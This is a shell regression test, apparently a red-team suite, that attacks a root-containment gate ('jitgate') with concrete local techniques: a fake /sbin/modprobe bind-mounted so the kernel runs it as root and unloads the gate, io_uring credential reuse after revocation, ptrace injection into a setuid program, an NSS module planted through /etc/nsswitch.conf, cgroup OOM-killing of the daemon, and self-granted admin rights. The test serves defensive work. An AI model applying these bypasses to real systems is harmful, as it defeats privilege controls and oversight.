#!/bin/sh
# vm-args: --timeout 1500
# Attacks on the root containment: alice (login uid 1000) with a root:elevate grant, or
# after it, against the vendor's claims: (1) an ended grant leaves her no root of any kind,
# (2) she cannot switch the gate off or have the host's automation do it, (4) a plain user
# gets no root. Each technique is first shown working with no gate where that means
# something; a check FAILS when the attack succeeds under the gate, so this file fails
# while a hole remains.
#
#  A. jitgated takes uid 0 for an admin: alice's root shell grants herself gate-admin
#     (and then reloads the policy) or a longer root:elevate.
#  B. sb_mount skips every call carrying a propagation flag, but the kernel performs
#     MS_BIND|MS_PRIVATE as a bind mount: a mount over a sealed path (the policy), and over
#     /sbin, whose modprobe the kernel then runs as automation on a module autoload that a
#     plain user triggers: that modprobe unloads the gate.
#  C. io_uring personality: a ring of her plain process, inherited by her root shell, which
#     registers its credentials in it: the plain process opens root's files after the
#     revoke (io_uring's own LSM hook, uring_override_creds, is not used).
#  D. ptrace of a running except-listed setuid program (a passwd): an elevated shell makes
#     it exec her program, a root process outside every session that outlives the grant.
#  B'. /sbin itself is not sealed (only the modprobe link in it): a plain bind mount does it,
#     and the mount outlives the grant: alice triggers the unload without one.
#  F. clone3(CLONE_INTO_CGROUP) into jitgated's cgroup (no cgroup.procs write): with a
#     memory limit on its unit, the cgroup's OOM killer kills jitgated.
#  E. /etc/nsswitch.conf and an NSS module: code in jitgated at its next user lookup, which
#     any user's `jitgate status` causes (one whose name jitgated has not cached).
. "${0%/*}/lib.sh"
. "${0%/*}/fixture.sh"

S=/opt/suid
RT=/tmp/rt
POLICY=/etc/jitgate/policy.json
RTB=$(command -v jg-redteam)
JG=$(command -v jitgate)
NSSLIB=$(command -v jg-rtnss.so || echo /usr/local/bin/jg-rtnss.so)
make_tree
elevate_setup "$S/jg-passwd"
mkdir -p $RT/victim
cp "$RTB" $S/jg-passwd # stands in for passwd: setuid root, waits, runs nothing it is told
chown root:root $S/jg-passwd
chmod 4755 $S/jg-passwd
echo '{"version": 1, "resources": {"nothing": {"files": ["/srv/public"]}}}' >/tmp/empty.json
echo rootsecret >$RT/rootonly
chmod 0600 $RT/rootonly
touch $RT/victim/f
# cgroup v2 as a service manager lays it out, the memory controller on
CG=/sys/fs/cgroup
mkdir -p $CG
mount -t cgroup2 none $CG
echo "+memory +pids" >$CG/cgroup.subtree_control
mkdir -p $CG/gate.slice $CG/victim.slice
echo "+memory +pids" >$CG/gate.slice/cgroup.subtree_control
mkdir -p $CG/gate.slice/jitgated.service

# /sbin as the attacker wants it: the same applets, and a modprobe of her own
rm -rf $RT/sbin
cp -a /sbin $RT/sbin
rm -f $RT/sbin/modprobe
cat >$RT/sbin/modprobe <<EOF
#!/bin/sh
echo "ran uid=\$(id -u) loginuid=\$(cat /proc/self/loginuid)" >>$RT/modprobe.ran
[ -e $RT/do-unload ] && $JG unload >>$RT/unload.out 2>&1
exit 1
EOF
chmod 0755 $RT/sbin/modprobe

# alive PID: running, not a zombie (the test shell is the parent of both victims)
alive() {
	[ -d /proc/$1 ] && ! grep -q '^State:[[:space:]]*Z' /proc/$1/status
}
# C: alice's plain process keeps a ring her root shell made (output in $RT/uring-$1)
uring_start() {
	rm -f $RT/go-$1
	plain "$RTB" uring-keep $RT/go-$1 $RT/rootonly $S/jg-suid root "$RTB" uring-reg 3 \
		>$RT/uring-$1 2>&1 &
	wait_for $RT/uring-$1 '^held\|^not-registered' || diag "uring-$1: $(cat $RT/uring-$1)"
}
# D: alice runs the except-listed program; $VPID is it
victim_start() {
	plain $S/jg-passwd idle >$RT/victim-$1 2>&1 &
	wait_for $RT/victim-$1 '^ready' || diag "victim-$1: $(cat $RT/victim-$1)"
	VPID=$(sed -n 's/^ready //p' $RT/victim-$1)
}

# ---------------------------------------------------------------- no gate: it all works
expect_eq "no gate: alice's root shell is root" "$(elev id -u)" 0
expect_eq "no gate: alice herself cannot read root's file" "$(plain jg-probe open $RT/rootonly r)" EACCES
expect_eq "no gate: MS_BIND|MS_PRIVATE is a bind mount" \
	"$(elev "$RTB" mount-bind /tmp/empty.json $RT/victim/f private)" ok
ok "no gate: the file shows the bind mount" grep -q nothing $RT/victim/f
umount $RT/victim/f
expect_eq "no gate: her own /sbin over the real one" "$(elev "$RTB" mount-bind $RT/sbin /sbin private)" ok
expect_eq "no gate: a plain user's socket() of a family with no module returns" \
	"$(plain "$RTB" socket 12)" EAFNOSUPPORT
ok "no gate: and the kernel ran her modprobe as root with no login uid" \
	grep -q "ran uid=0 loginuid=4294967295" $RT/modprobe.ran
umount /sbin
rm -f $RT/modprobe.ran

uring_start 0
touch $RT/go-0
wait_for $RT/uring-0 '^plain='
expect_eq "no gate: a ring from her root shell opens root's file for her plain process" \
	"$(cat $RT/uring-0)" "held
plain=EACCES personality=rootsecret"

victim_start 0
expect_eq "no gate: her root shell traces the running setuid program" \
	"$(elev "$RTB" inject "$VPID" "$RTB" rootdo $RT/go-v0 $RT/rootonly $RT/out-v0)" ok
touch $RT/go-v0
wait_for $RT/out-v0 euid
expect_eq "no gate: and makes it run her program as root" "$(cat $RT/out-v0)" "euid=0 rootsecret"

# (no OOM here: the kernel's OOM report would count as a splat; the gate part shows it)
expect_eq "no gate: her root shell clones a process straight into a cgroup (no cgroup.procs write)" \
	"$(elev "$RTB" clone-into $CG/victim.slice 0)" ok

# ---------------------------------------------------------------- the gate
start_daemon $POLICY || finish
ok "status: enforcing" jitgate status
G1=$(jitgate grant --user alice --allow root:elevate --for 30m --reason "INC-59 debug" | grep -o 'g-[0-9]*' | head -n1)
expect_eq "grant $G1: alice's root shell is root" "$(elev id -u)" 0

# B (sealed path): the policy file
expect_eq "mount: a plain bind mount over the policy is refused" \
	"$(elev "$RTB" mount-bind /tmp/empty.json $POLICY)" EPERM
expect_eq "mount: MS_BIND|MS_PRIVATE over the policy is refused too" \
	"$(elev "$RTB" mount-bind /tmp/empty.json $POLICY private)" EPERM
if grep -q nothing $POLICY; then
	diag "HOLE B: the policy file now reads: $(cat $POLICY)"
	umount $POLICY
fi

# C and D: set up while elevated, then the grant is revoked
uring_start 1
victim_start 1
R=$(elev "$RTB" inject "$VPID" "$RTB" rootdo $RT/go-v1 $RT/rootonly $RT/out-v1)
diag "inject into the running except-listed program (pid $VPID) under the grant: $R"
ok "revoke $G1" jitgate revoke "$G1"
sleep 2
fails "after the revoke: alice's root shell is refused" elev id -u
touch $RT/go-1 $RT/go-v1
# (a root shell holding her plain ring does not begin at all: test_56)
grep -q '^held' $RT/uring-1 && wait_for $RT/uring-1 '^plain='
case $(cat $RT/uring-1) in
*personality=rootsecret*)
	_vm_not_ok "after the revoke: no root credentials for her plain process through an io_uring personality" \
		"HOLE C: $(tr '\n' ' ' <$RT/uring-1)" ;;
*) _vm_ok "after the revoke: no root credentials for her plain process through an io_uring personality ($(tr '\n' ' ' <$RT/uring-1))" ;;
esac
wait_for $RT/out-v1 euid
case $(cat $RT/out-v1 2>/dev/null) in
*rootsecret*)
	_vm_not_ok "after the revoke: no root process left from tracing a setuid program" \
		"HOLE D: pid $VPID, outside every session, wrote '$(cat $RT/out-v1)'" ;;
*) _vm_ok "after the revoke: no root process left from tracing a setuid program ($(cat $RT/out-v1 2>/dev/null))" ;;
esac
kill "$VPID" 2>/dev/null

# E: code in jitgated through the user database: glibc rereads /etc/nsswitch.conf when it
# changes and loads the module it names into the next process that looks a user up; jitgated
# does at every connection (the peer's name)
G4=$(jitgate grant --user alice --allow root:elevate --for 30m --reason "INC-59 nss" | grep -o 'g-[0-9]*' | head -n1)
rm -f $RT/nss.hit
cp /etc/nsswitch.conf $RT/nsswitch.orig
elev sh -c "cp $NSSLIB /lib/x86_64-linux-gnu/libnss_rt.so.2 && printf 'passwd: rt files\ngroup: files\n' >/etc/nsswitch.conf"
# (jitgated caches the names it looked up: a user it has not seen yet, carol, connects)
with_loginuid 1002 as_user carol "$JG" status >/dev/null 2>&1
sleep 1
if grep -q "pid=$DAEMON_PID " $RT/nss.hit 2>/dev/null; then
	_vm_not_ok "nsswitch.conf: alice's root shell puts no code into jitgated" \
		"HOLE E: $(grep "pid=$DAEMON_PID " $RT/nss.hit)"
else
	_vm_ok "nsswitch.conf: alice's root shell puts no code into jitgated ($(cat $RT/nss.hit 2>/dev/null))"
fi
cp $RT/nsswitch.orig /etc/nsswitch.conf
rm -f /lib/x86_64-linux-gnu/libnss_rt.so.2
jitgate revoke "$G4" >/dev/null

# A: jitgated's admin is uid 0
G2=$(jitgate grant --user alice --allow root:elevate --for 30m --reason "INC-59 again" | grep -o 'g-[0-9]*' | head -n1)
expect_eq "grant $G2: alice's root shell is root" "$(elev id -u)" 0
fails "self-grant: alice's root shell cannot give herself a longer root:elevate" \
	elev "$JG" grant --user alice --allow root:elevate --for 30d --reason "mine now"
fails "self-grant: alice's root shell cannot give herself gate-admin" \
	elev "$JG" grant --user alice --allow gate-admin:admin --for 1h --reason "mine now"
fails "self-grant: so she cannot reload the policy" elev "$JG" policy reload
jitgate revoke --user alice >/dev/null 2>&1
G3=$(jitgate grant --user alice --allow root:elevate --for 30m --reason "INC-59 last" | grep -o 'g-[0-9]*' | head -n1)
expect_eq "grant $G3: alice's root shell is root" "$(elev id -u)" 0

# F: clone3(CLONE_INTO_CGROUP) puts a process into jitgated's cgroup without writing any
# cgroup.procs (the seal refuses those writes); with a memory limit on the unit, the cgroup's
# OOM killer then has jitgated to kill
echo "$DAEMON_PID" >$CG/gate.slice/jitgated.service/cgroup.procs
echo 32M >$CG/gate.slice/jitgated.service/memory.max
sleep 3	# jitgated's cgroup is recorded at its next bpf() call
G5=$(jitgate grant --user alice --allow root:elevate --for 30m --reason "INC-59 cg" | grep -o 'g-[0-9]*' | head -n1)
R=$(elev "$RTB" clone-into $CG/gate.slice/jitgated.service 64 "$DAEMON_PID")
diag "alice's clone3 into jitgated's cgroup: $R"
sleep 1
if alive "$DAEMON_PID"; then
	_vm_ok "jitgated survives a process of alice's cloned into its cgroup"
else
	_vm_not_ok "jitgated survives a process of alice's cloned into its cgroup" \
		"HOLE F: the cgroup's OOM killer ended it: $(dmesg | grep 'Killed process.*(jitgated)' | tail -n1)"
	wait "$DAEMON_PID" 2>/dev/null
	echo max >$CG/gate.slice/jitgated.service/memory.max
	start_daemon $POLICY || finish
fi
echo max >$CG/gate.slice/jitgated.service/memory.max
jitgate revoke --user alice >/dev/null 2>&1
G6=$(jitgate grant --user alice --allow root:elevate --for 30m --reason "INC-59 sbin" | grep -o 'g-[0-9]*' | head -n1)

# B (the kernel's helper): her /sbin, then a plain socket() call
R=$(elev "$RTB" mount-bind $RT/sbin /sbin)
expect_eq "mount: a plain bind mount over /sbin (the modprobe the kernel runs) is refused" "$R" EPERM
if [ "$R" != ok ]; then
	expect_eq "mount: MS_BIND|MS_PRIVATE over /sbin is refused too" \
		"$(elev "$RTB" mount-bind $RT/sbin /sbin private)" EPERM
fi
# the mount outlives the grant: the trigger comes from alice without one
jitgate revoke --user alice >/dev/null 2>&1
sleep 1
touch $RT/do-unload
plain "$RTB" socket 12 >/dev/null
ok "the gate is still loaded after a plain user's socket() call" jitgate status
if [ -e $RT/modprobe.ran ]; then
	diag "HOLE B: modprobe: $(cat $RT/modprobe.ran); jitgate unload said: $(cat $RT/unload.out 2>/dev/null)"
fi
umount /sbin 2>/dev/null

finish
